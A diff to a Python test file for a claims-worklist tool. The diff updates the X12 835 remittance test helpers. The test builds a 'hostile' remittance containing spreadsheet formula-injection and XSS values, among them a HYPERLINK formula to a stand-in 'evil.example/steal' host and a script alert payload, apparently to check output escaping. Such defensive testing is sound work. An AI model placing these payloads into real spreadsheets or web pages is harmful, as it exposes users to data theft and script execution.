@@ -15,23 +15,24 @@ from flows.cli import main
 from flows.ledger import Ledger
 from flows.outputs.tables import neutralise, restore
 from flows.worklists import build_worklists
+from tests.support.x12files import Cas, Claim, Line, remit
 from tests.worklists.conftest import context
+from tests.worklists.tables import parse
 from tests.worklists.test_classify import REMIT_DAY
-from tests.worklists.x12sets import Adj, ClaimPayment, Line, parse, remit_835
 
 DAY = date(2026, 10, 21)
 NOW = datetime(2026, 10, 21, 6, 0, tzinfo=UTC)
-LINK = '=HYPERLINK("evil.example/steal","Open claim")'
+LINK = '=HYPERLINK("EVIL.EXAMPLE/STEAL","OPEN CLAIM")'  # as the X12 writer sends it
 PAYER_ID = "@SUM(1)<script>alert(1)</script>"
 NOTES = [LINK, "+1+cmd", "-2+3", "@SUM(A1)", "\tx=1", "\r=1", "plain note"]
 
 
 def hostile_835() -> str:
-    denied = ClaimPayment(
+    denied = Claim(
         "ENC-2", "4", "90", "0", "0", LINK,
-        lines=[Line("99214", "90", "0", "ENC-2-1", [Adj("CO", "197", "90")])],
+        lines=[Line("99214", "90", "0", "ENC-2-1", [Cas("CO", "197", "90")])],
     )  # fmt: skip
-    return remit_835("TRACE9", REMIT_DAY, [denied], 909, payer_id=PAYER_ID)
+    return remit([denied], trace="TRACE9", pay_date=REMIT_DAY, isa13=909, payer_id=PAYER_ID)
 
 
 def sheet_xml(path) -> str:
